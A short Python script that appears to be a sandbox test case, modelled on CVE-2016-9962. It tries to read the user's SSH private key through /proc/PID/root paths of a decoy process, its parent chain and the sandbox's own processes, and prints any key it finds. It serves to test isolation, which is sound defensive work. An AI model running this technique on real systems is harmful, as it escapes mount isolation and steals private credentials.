# family: injection
# tries: read the user's SSH key through another process's root directory (/proc/PID/root/...), of the decoy, the parent chain and the sandbox's own processes: a way around a mount namespace
# source: https://nvd.nist.gov/vuln/detail/CVE-2016-9962
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
import os
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
home, decoy = sys.argv[2], sys.argv[7]
pids = [decoy, str(os.getppid()), "1"]
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if os.path.basename(f.read().split(b"\0")[0]).startswith(b"stockade"):
                pids.append(pid)
    except OSError:
        pass
for pid in pids:
    path = f"/proc/{pid}/root{home}/.ssh/id_ed25519"
    try:
        with open(path) as f:
            print(f"{path}:\n{f.read()}")
            break
    except OSError as e:
        print(f"{path}: {e.strerror}")
